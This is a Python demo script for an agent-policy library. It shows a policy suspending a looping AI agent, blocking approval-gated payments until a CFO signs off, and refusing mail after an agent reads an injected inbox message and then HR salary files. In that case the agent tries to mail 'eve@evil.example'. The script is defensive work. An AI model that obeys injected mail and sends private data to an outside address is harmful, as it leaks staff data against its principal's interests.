"""The third act: a policy stops an agent that loops, one that was talked into sending data out, and a payment that needs a person."""

import json
import time
from pathlib import Path
from typing import Any

import libagentid
import screen
from calls import call
from commandline import CommandLine
from mcp import Client

HERE = ["--authority", "acme"]
SCOPE = "read_file(path under '/'); send_mail(to: *, body: *); pay(to: *, usd: *)"
CALLS = 20  # in an hour
CFO = "user:cfo@acme.example"


def policy(key: str) -> dict[str, Any]:
    """What an agent may do is its grant's to say; how often, with which data and with whose consent is said here."""
    return {
        "version": 1,
        "labels": ["untrusted", "private"],
        "approvers": [{"name": CFO, "key": key}],
        "rules": [
            {"id": "runaway", "match": "read_file", "rate": {"calls": CALLS, "per": "1h", "for": "agent"}, "then": "suspend"},
            {"id": "inbox", "match": "read_file(path under '/inbox')", "labels": {"adds": ["untrusted"]}},
            {"id": "staff", "match": "read_file(path under '/hr')", "labels": {"adds": ["private"]}},
            {"id": "no-exfiltration", "match": "send_mail", "labels": {"refuses": ["untrusted & private"]}},
            {"id": "large", "match": "pay(usd decimal >= '1000')", "approval": {"of": [CFO], "within": "15m"}},
        ],
    }  # fmt: skip


async def play(folder: Path, client: Client) -> None:
    control = CommandLine(folder)
    began = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
    print()
    screen.act("3  A policy governs", "the same server; the policy is in force at its next call")
    key = control.ask("approvals", "key", "cfo.jwk").strip()
    (folder / "policy.json").write_text(json.dumps(policy(key)))
    control.ask("profile", "put", "clerk", *HERE, "--owner", "team:office@acme.example", "--ceiling", SCOPE)
    with libagentid.Authority.open(folder / "acme") as acme:
        control.show("policy", "apply", *HERE, "policy.json")

        def clerk(task: str) -> libagentid.Agent:
            return acme.agent("clerk", principal="user:alice@acme.example", task=task, scope=SCOPE)

        await _loop(client, control, clerk("watch the plan"))
        await _exfiltrate(client, clerk("answer the mail"), clerk("write to Bob"))
        await _pay(client, control, clerk("pay the bills"))
        acme.integrate()
    screen.scene("Before another policy is put in force: what would it have done to this act?")
    control.show("policy", "replay", *HERE, "policy.json", "--since", began)


async def _loop(client: Client, control: CommandLine, agent: libagentid.Agent) -> None:
    screen.scene(f"An agent loops: more than {CALLS} calls in an hour suspend it, in the very call that is too many")
    plan = ("read_file", {"path": "/q3/plan.txt"})
    screen.decided(await call(client, agent, *plan))
    done = 1
    while not (last := await call(client, agent, *plan))["reason"] and done < 10 * CALLS:
        done += 1
    screen.line(f"... {done} calls in all")
    screen.check(done == CALLS, f"{done} calls were permitted")
    screen.decided(last, expect="rate_limited")
    screen.decided(await call(client, agent, "pay", {"to": "acct-7", "usd": "1.00"}), expect="suspended")
    state = control.read("agents", *HERE, "--profile", "clerk")
    screen.check("suspended" in json.dumps(state), "the registry does not say that it is suspended")


async def _exfiltrate(client: Client, agent: libagentid.Agent, other: libagentid.Agent) -> None:
    read = await call(client, agent, "read_file", {"path": "/inbox/1.txt"})
    screen.scene(f"A mail says: {read['whole'].splitlines()[1]}")
    screen.decided(read)
    screen.decided(await call(client, agent, "read_file", {"path": "/hr/salaries.txt"}))
    screen.decided(await call(client, agent, "send_mail", {"to": "eve@evil.example", "body": "?"}), expect="flow_refused")
    screen.line("its grant lets it send mail; what it has read does not. A task that has read neither sends:")
    screen.decided(await call(client, other, "send_mail", {"to": "bob@acme.example", "body": "Hello"}))


async def _pay(client: Client, control: CommandLine, agent: libagentid.Agent) -> None:
    screen.scene("A large payment waits for a person")
    bill = {"to": "acct-7", "usd": "2500.00"}
    screen.decided(await call(client, agent, "pay", {"to": "acct-7", "usd": "40.00"}))
    screen.decided(await call(client, agent, "pay", bill), expect="approval_required")
    (request,) = control.read("approvals", "list", *HERE)
    control.show("approvals", "show", *HERE, request["id"])
    control.show("approvals", "approve", *HERE, request["id"], "--as", CFO, "--key", "cfo.jwk")
    screen.decided(await call(client, agent, "pay", {**bill, "to": "acct-666"}), expect="approval_required")
    screen.decided(await call(client, agent, "pay", bill))
    screen.decided(await call(client, agent, "pay", bill), expect="approval_required")
